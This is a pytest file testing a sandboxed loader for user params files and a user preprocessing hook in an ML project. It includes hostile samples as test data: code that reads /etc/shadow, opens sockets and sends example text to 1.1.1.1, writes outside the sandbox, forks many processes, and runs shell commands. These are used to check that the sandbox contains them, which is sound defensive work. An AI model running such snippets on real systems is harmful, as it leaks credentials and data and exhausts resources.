"""clowder_ml.ml.usercode against the real gVisor sandbox: params files (JSON, YAML,
config.py) over the submitted params, and a cached user ``preprocess`` over text examples.

Skipped when the gVisor sandbox is not usable here (tests/sandbox and tests/security fail
instead: they are where a broken sandbox is reported).
"""

from __future__ import annotations

import hashlib
import os
import textwrap
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

import clowder_ml.ml.usercode as mlu
from clowder_ml.errors import SandboxUnavailable, ValidationFailed
from clowder_ml.ml.textdata import TextExamples
from clowder_ml.ml.usercode import (
    code_digest,
    load_params_file,
    preprocess_cache_path,
    preprocess_examples,
    preprocess_stats,
)
from clowder_ml.sandbox import get_sandbox
from clowder_ml.sandbox.base import wait_for_live_processes
from clowder_ml.sandbox.gvisor import RunscSandbox
from clowder_ml.sandbox.scan import ScanBlocked
from clowder_ml.sandbox.usercode import RowError, UserCodeError, UserCodeLimit
from clowder_ml.settings import Settings
from clowder_ml.tasks.text_classification import FinetuneParams

BASE: dict[str, Any] = {"model_name": "sentiment", "epochs": 2, "learning_rate": 1e-4}


@pytest.fixture(scope="module")
def settings(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Settings]:
    root = tmp_path_factory.mktemp("ml-usercode-sandbox")
    os.chmod(root, 0o700)
    s = Settings(sandbox_tmp_dir=root / "tmp", sandbox_state_dir=root / "runsc-state")
    try:
        sb = get_sandbox(s)
    except SandboxUnavailable as exc:  # pragma: no cover - depends on the machine
        pytest.skip(f"gVisor sandbox unavailable: {exc}")
    yield s
    # Whatever ran (forks included), every sandbox has ended and been cleaned up.
    wait_for_live_processes()
    assert isinstance(sb, RunscSandbox)
    assert list(sb.state_dir.iterdir()) == []
    assert [p.name for p in sb.tmp_root.iterdir() if p.name.startswith("cml-")] == []


@pytest.fixture(scope="module")
def unscanned(settings: Settings) -> Settings:
    """The pre-run scan off, so hostile code reaches the sandbox itself."""
    return settings.model_copy(update={"scan_block_at": "off"})


def write(path: Path, text: str) -> Path:
    path.write_text(textwrap.dedent(text).lstrip())
    return path


# --------------------------------------------------------------------------- params files


def test_json_params_override_base(tmp_path: Path) -> None:
    f = write(tmp_path / "params.json", '{"epochs": 5, "batch_size": 8}')
    p = load_params_file(f, FinetuneParams, BASE)
    assert isinstance(p, FinetuneParams)
    assert (p.model_name, p.epochs, p.batch_size, p.learning_rate) == ("sentiment", 5, 8, 1e-4)
    assert BASE["epochs"] == 2  # base untouched


def test_yaml_params_override_base(tmp_path: Path) -> None:
    pytest.importorskip("yaml")
    f = write(tmp_path / "params.YML", """
        # a comment
        epochs: 3
        metric: macro_f1
    """)
    p = load_params_file(f, FinetuneParams, BASE)
    assert isinstance(p, FinetuneParams)
    assert (p.epochs, p.metric, p.model_name) == (3, "macro_f1", "sentiment")
    assert load_params_file(write(tmp_path / "empty.yaml", ""), FinetuneParams, BASE) \
        == FinetuneParams(**BASE)


def test_file_errors_name_the_file_and_field(tmp_path: Path) -> None:
    with pytest.raises(ValidationFailed) as err:
        load_params_file(write(tmp_path / "p.json", '{"epochs": 0, "bogus": 1}'),
                         FinetuneParams, BASE)
    msg = err.value.message
    assert "p.json" in msg and "epochs:" in msg and "bogus:" in msg
    with pytest.raises(ValidationFailed, match=r"p2\.json is not valid JSON.*line 2"):
        load_params_file(write(tmp_path / "p2.json", '{"epochs": 1,\n}'), FinetuneParams, BASE)
    with pytest.raises(ValidationFailed, match=r"list\.json must hold a mapping"):
        load_params_file(write(tmp_path / "list.json", "[1]"), FinetuneParams, BASE)
    with pytest.raises(ValidationFailed) as err:
        load_params_file(write(tmp_path / "params.toml", "epochs = 1"), FinetuneParams, BASE)
    assert "params.toml" in err.value.message
    assert ".json" in str(err.value) and ".yaml" in str(err.value) and ".py" in str(err.value)


def test_config_py_dict_and_function(tmp_path: Path, settings: Settings) -> None:
    f = write(tmp_path / "config.py", """
        import math
        CONFIG = {"epochs": 4, "warmup_ratio": round(math.sqrt(0.01), 3)}
    """)
    p = load_params_file(f, FinetuneParams, BASE, settings=settings)
    assert isinstance(p, FinetuneParams)
    assert (p.epochs, p.warmup_ratio, p.model_name) == (4, 0.1, "sentiment")

    g = write(tmp_path / "config_fn.py", """
        def CONFIG():
            sizes = [8, 16, 32]
            return {"batch_size": sizes[-1], "model_name": "other"}
    """)
    q = load_params_file(g, FinetuneParams, BASE, settings=settings)
    assert isinstance(q, FinetuneParams)
    assert (q.batch_size, q.model_name, q.epochs) == (32, "other", 2)


def test_config_py_bad_field(tmp_path: Path, settings: Settings) -> None:
    f = write(tmp_path / "config.py", 'CONFIG = {"learning_rate": -1, "epochs": 1}\n')
    with pytest.raises(ValidationFailed) as err:
        load_params_file(f, FinetuneParams, BASE, settings=settings)
    assert "learning_rate:" in err.value.message and "config.py" in err.value.message
    assert "epochs:" not in err.value.message


HOSTILE_CONFIGS = {
    "socket": """
        import socket
        s = socket.create_connection(("1.1.1.1", 53), timeout=3)
        CONFIG = {"epochs": 1}
    """,
    "shadow": """
        secret = open("/etc/shadow").read()
        CONFIG = {"model_name": "x", "epochs": 1}
    """,
    "write_outside": """
        with open({marker!r}, "w") as f:
            f.write("escaped")
        CONFIG = {{"epochs": 1}}
    """,
    "forks": """
        import os, time
        for _ in range(64):
            if os.fork() == 0:
                time.sleep(20)
                os._exit(0)
        CONFIG = {"epochs": 1}
    """,
}


@pytest.mark.parametrize("attack", sorted(HOSTILE_CONFIGS))
def test_hostile_config_is_contained(attack: str, tmp_path: Path, unscanned: Settings) -> None:
    marker = tmp_path / "outside" / "marker.txt"
    marker.parent.mkdir()
    code = HOSTILE_CONFIGS[attack]
    if attack == "write_outside":
        code = code.format(marker=str(marker))
    f = write(tmp_path / "config.py", code)
    with pytest.raises(UserCodeError) as err:  # UserCodeLimit is one too
        load_params_file(f, FinetuneParams, BASE, settings=unscanned)
    # Refused inside the sandbox (the user's line failed) or ended by a sandbox limit.
    assert isinstance(err.value, UserCodeLimit) or "config.py, line" in err.value.message
    assert not marker.exists()
    assert list(marker.parent.iterdir()) == []


def test_hostile_config_blocked_by_scan(tmp_path: Path, settings: Settings) -> None:
    f = write(tmp_path / "config.py", """
        import subprocess
        subprocess.run("touch /tmp/x", shell=True)
        CONFIG = {}
    """)
    with pytest.raises(ScanBlocked):
        load_params_file(f, FinetuneParams, BASE, settings=settings)


def test_code_digest(tmp_path: Path) -> None:
    f = write(tmp_path / "a.py", "x = 1\n")
    assert code_digest(f) == hashlib.sha256(b"x = 1\n").hexdigest()


# --------------------------------------------------------------------------- preprocess


def examples() -> TextExamples:
    return TextExamples(
        texts=["Hello World", "DROP me", "MiXeD Case", "Keep", "LAST ONE"],
        labels=["pos", "neg", "pos", "neg", "pos"],
        ids=["a", "b", "c", "d", "e"],
        sources=["a.csv", "a.csv", "b.csv", "b.csv", "b.csv"],
        rows=[1, 2, 1, 2, 3],
        text_column="text",
        label_column="label",
    )


LOWER = """
def preprocess(example):
    if example["text"].startswith("DROP"):
        return None
    label = "positive" if example["label"] == "pos" else None
    return {"text": example["text"].lower(), "label": label}
"""


def test_preprocess_lowercases_drops_and_caches(tmp_path: Path, settings: Settings,
                                                monkeypatch: pytest.MonkeyPatch) -> None:
    code = write(tmp_path / "prep.py", LOWER)
    cache = tmp_path / "cache"
    ex = examples()
    before = preprocess_stats()
    out = preprocess_examples(code, ex, cache, data_digest="d1", settings=settings)
    assert out.texts == ["hello world", "mixed case", "keep", "last one"]
    assert out.labels == ["positive", "positive", "neg", "positive"]
    assert out.ids == ["a", "c", "d", "e"]
    assert (out.sources, out.rows) == (["a.csv", "b.csv", "b.csv", "b.csv"], [1, 1, 2, 3])
    assert ex.texts[0] == "Hello World"  # input untouched
    assert preprocess_stats().sandbox_runs == before.sandbox_runs + 1
    path = preprocess_cache_path(code, cache, data_digest="d1")
    assert path.exists() and path.parent == cache
    assert [p.name for p in cache.iterdir()] == [path.name]  # no temp file left

    # Second call: same code and data -> from the cache, no sandbox.
    def no_sandbox(*args: object, **kwargs: object) -> None:
        raise AssertionError("apply() called on a cache hit")

    monkeypatch.setattr(mlu, "apply", no_sandbox)
    again = preprocess_examples(code, examples(), cache, data_digest="d1", settings=settings)
    assert again == out
    after = preprocess_stats()
    assert after.sandbox_runs == before.sandbox_runs + 1
    assert after.cache_hits == before.cache_hits + 1

    # Other data digest: a miss (apply is needed again).
    with pytest.raises(AssertionError, match="cache hit"):
        preprocess_examples(code, examples(), cache, data_digest="d2", settings=settings)


def test_preprocess_without_labels(tmp_path: Path, settings: Settings) -> None:
    code = write(tmp_path / "prep.py", """
        def preprocess(example):
            assert example["label"] is None
            return {"text": example["text"] + "!", "id": "ignored"}
    """)
    ex = examples()
    ex.labels = None
    out = preprocess_examples(code, ex, tmp_path / "c", data_digest="n", settings=settings)
    assert out.labels is None
    assert out.texts == [t + "!" for t in ex.texts] and out.ids == ex.ids


def test_preprocess_row_error_names_file_row_and_line(tmp_path: Path,
                                                      settings: Settings) -> None:
    code = write(tmp_path / "prep.py", """
        def preprocess(example):
            if example["id"] == "e":
                raise ValueError("cannot handle " + example["text"])
            return {"text": example["text"]}
    """)
    cache = tmp_path / "cache"
    with pytest.raises(RowError) as err:
        preprocess_examples(code, examples(), cache, data_digest="d", settings=settings)
    msg = err.value.message
    assert err.value.line == 3 and err.value.row == 4
    assert "b.csv" in msg and "row 3" in msg and "prep.py, line 3" in msg
    assert "cannot handle LAST ONE" in msg
    assert not cache.exists() or list(cache.iterdir()) == []  # nothing cached


@pytest.mark.parametrize(("ret", "expect"), [
    ('"just a string"', "returned a str"),
    ('{"label": "x"}', "returned no 'text'"),
    ('{"text": 3}', "'text' as a int"),
    ('{"text": "t", "label": ""}', "'label' as an empty str"),
])
def test_preprocess_bad_result_names_row(tmp_path: Path, settings: Settings, ret: str,
                                         expect: str) -> None:
    code = write(tmp_path / "prep.py", f"""
        def preprocess(example):
            if example["id"] == "d":
                return {ret}
            return {{"text": example["text"]}}
    """)
    with pytest.raises(ValidationFailed) as err:
        preprocess_examples(code, examples(), tmp_path / "c", data_digest="d",
                            settings=settings)
    msg = err.value.message
    assert expect in msg
    assert "prep.py" in msg and "b.csv" in msg and "row 2" in msg and "'d'" in msg


def test_hostile_preprocess_network_is_contained(tmp_path: Path, unscanned: Settings) -> None:
    code = write(tmp_path / "prep.py", """
        import socket

        def preprocess(example):
            s = socket.create_connection(("1.1.1.1", 80), timeout=3)
            s.sendall(example["text"].encode())
            return {"text": "sent"}
    """)
    with pytest.raises(RowError) as err:
        preprocess_examples(code, examples(), tmp_path / "c", data_digest="d",
                            settings=unscanned)
    assert err.value.row == 0 and "a.csv" in err.value.message
